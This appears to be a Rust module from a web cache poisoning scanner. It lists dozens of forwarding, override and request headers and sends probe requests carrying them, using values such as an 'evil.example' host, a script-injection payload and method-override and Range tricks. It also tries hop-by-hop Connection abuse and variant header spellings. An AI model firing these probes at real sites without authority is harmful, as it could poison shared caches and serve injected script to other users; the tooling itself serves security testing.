//! Headers that some origin or framework believes, each with several kinds of values.

use super::{Maker, Route};
use crate::client::browsing;

/// Said of the way a request took, or instead of it: whoever is in front must not pass them on from outside, or must
/// not keep what is made of them.
const OF_THE_WAY: [&str; 52] = [
    "X-Forwarded-Host",
    "X-Forwarded-Scheme",
    "X-Forwarded-Port",
    "X-Forwarded-Prefix",
    "X-Forwarded-Proto",
    "X-Forwarded-For",
    "X-Forwarded-Server",
    "X-Forwarded-Path",
    "X-Forwarded-Uri",
    "X-Forwarded-Url",
    "X-Forwarded-By",
    "X-Forwarded-Ssl",
    "X-Forwarded-Protocol",
    "X-Forwarded-Method",
    "X-Forwarded",
    "Forwarded",
    "Forwarded-For",
    "X-Original-URL",
    "X-Original-URI",
    "X-Original-Host",
    "X-Rewrite-URL",
    "X-HTTP-Method-Override",
    "X-HTTP-Method",
    "X-Method-Override",
    "X-Host",
    "X-HTTP-Host-Override",
    "X-Timer",
    "X-Real-IP",
    "X-Client-IP",
    "True-Client-IP",
    "CF-Connecting-IP",
    "Fastly-Client-IP",
    "X-Cluster-Client-IP",
    "Client-IP",
    "X-Originating-IP",
    "X-Remote-IP",
    "X-Remote-Addr",
    "X-ProxyUser-Ip",
    "X-Url-Scheme",
    "Front-End-Https",
    "X-Wap-Profile",
    "X-Middleware-Subrequest",
    "X-Middleware-Prefetch",
    "X-Invoke-Path",
    "X-Invoke-Query",
    "X-Matched-Path",
    "X-Now-Route-Matches",
    "X-Custom-IP-Authorization",
    "X-Proxy-Url",
    "Request-Uri",
    "Base-Url",
    "X-Internal-Request",
];

/// Said of the request itself: on a ruled route they are not in the key, so that the origin must not see them.
const OF_THE_REQUEST: [&str; 40] = [
    "Referer",
    "Origin",
    "User-Agent",
    "Accept-Language",
    "Accept-Encoding",
    "Accept",
    "Accept-Charset",
    "Accept-Datetime",
    "Range",
    "If-Range",
    "If-None-Match",
    "If-Modified-Since",
    "If-Match",
    "If-Unmodified-Since",
    "Cookie",
    "Cookie2",
    "Authorization",
    "Proxy-Authorization",
    "Pragma",
    "Cache-Control",
    "TE",
    "Trailer",
    "Via",
    "DNT",
    "Save-Data",
    "Sec-CH-UA",
    "Sec-CH-UA-Platform",
    "Sec-Fetch-Site",
    "X-Requested-With",
    "X-CSRF-Token",
    "Surrogate-Capability",
    "Content-Type",
    "Content-Language",
    "Max-Forwards",
    "From",
    "RSC",
    "Next-Router-State-Tree",
    "X-Nextjs-Data",
    "CDN-Loop",
    "X-Anything-Else",
];

/// What is said in them.
const VALUES: [(&str, &str); 4] = [
    ("a word", "{}"),
    ("a host", "{}.evil.example:443"),
    ("an address", "https://{}.evil.example/a?b=c"),
    ("a script", "\"><script src=//{}.evil.example></script>"),
];

/// Values with a meaning of their own, where a word would have none.
const MEANINGS: [(&str, &str); 28] = [
    ("X-Forwarded-Scheme", "nothttps"),
    ("X-Forwarded-Proto", "nothttps"),
    ("X-Forwarded-Port", "31337"),
    ("X-HTTP-Method-Override", "POST"),
    ("X-HTTP-Method", "DELETE"),
    ("X-Method-Override", "HEAD"),
    ("X-Original-URL", "/account"),
    ("X-Rewrite-URL", "/account"),
    ("Range", "bytes=0-9"),
    ("Range", "bytes=-1"),
    ("Range", "bytes=99999999-"),
    ("Range", "bytes=0-0,2-2,4-4"),
    ("Range", "cows=1-2"),
    ("If-None-Match", "*"),
    ("If-Match", "\"no such\""),
    ("If-Modified-Since", "Tue, 24 Nov 2037 00:00:00 GMT"),
    ("If-Unmodified-Since", "Tue, 24 Nov 1987 00:00:00 GMT"),
    ("Accept", "application/json"),
    ("Accept", "text/x-component"),
    ("Accept-Encoding", "gzip"),
    ("Accept-Encoding", "br"),
    ("Accept-Encoding", "identity;q=0, *;q=0"),
    ("Accept-Language", "xx-XX"),
    ("RSC", "1"),
    ("X-Nextjs-Data", "1"),
    ("Purpose", "prefetch"),
    ("Upgrade-Insecure-Requests", "1"),
    ("Connection", "Host"),
];

pub(super) fn probes(maker: &mut Maker, route: Route) {
    for name in OF_THE_WAY {
        for value in VALUES {
            said(maker, route, name, value);
        }
    }
    for (name, value) in MEANINGS {
        said_with_canary_beside(maker, route, name, value);
    }
    // Strictly by RFC 9111 the origin sees all of a request, and its word alone decides what of that makes another page.
    if route != Route::Strict {
        for name in OF_THE_REQUEST {
            for value in VALUES {
                said(maker, route, name, value);
            }
        }
    }
    for name in ["X-Forwarded-Host", "X-Anything-Else", "Cookie"] {
        if route != Route::Strict || name == "X-Forwarded-Host" {
            named_by_connection(maker, route, name);
            spelled(maker, route, name);
        }
    }
}

fn said(maker: &mut Maker, route: Route, name: &str, (kind, value): (&str, &str)) {
    let target = maker.target(route);
    let value = value.replace("{}", &target.canary);
    let request = browsing(&target.path, &format!("{name}: {value}\r\n"));
    maker.poison(format!("header {name}, {kind}"), &target, request);
}

/// The value does something by itself; where a second header may go along, it says who it was.
fn said_with_canary_beside(maker: &mut Maker, route: Route, name: &str, value: &str) {
    let target = maker.target(route);
    let beside = format!("X-Forwarded-Host: {}.evil.example\r\n", target.canary);
    let request = browsing(&target.path, &format!("{name}: {value}\r\n{beside}"));
    maker.poison(format!("header {name}: {value}"), &target, request);
}

/// A header that is said to concern only the next hop (RFC 9110, §7.6.1).
fn named_by_connection(maker: &mut Maker, route: Route, name: &str) {
    for connection in ["close, ", "keep-alive, ", ""] {
        let target = maker.target(route);
        let more = format!("Connection: {connection}{name}\r\n{name}: {}\r\n", target.canary);
        let request = browsing(&target.path, &more);
        maker.poison(format!("header {name} by hop, {connection}"), &target, request);
    }
}

/// The same name, written otherwise or more than once.
fn spelled(maker: &mut Maker, route: Route, name: &str) {
    let upper = name.to_uppercase();
    let under = name.replace('-', "_");
    for written in [
        name.to_lowercase(),
        upper,
        under,
        format!("{name} "),
        format!(" {name}"),
    ] {
        let target = maker.target(route);
        let request = browsing(&target.path, &format!("{written}: {}\r\n", target.canary));
        maker.poison(format!("header {written:?} as it is written"), &target, request);
    }
    let target = maker.target(route);
    let twice = format!("{name}: shop.example\r\n{name}: {}\r\n", target.canary);
    maker.poison(
        format!("header {name} twice"),
        &target,
        browsing(&target.path, &twice),
    );
    let target = maker.target(route);
    let folded = format!("X-Folded: a\r\n {name}: {}\r\n", target.canary);
    maker.poison(
        format!("header {name} folded"),
        &target,
        browsing(&target.path, &folded),
    );
}
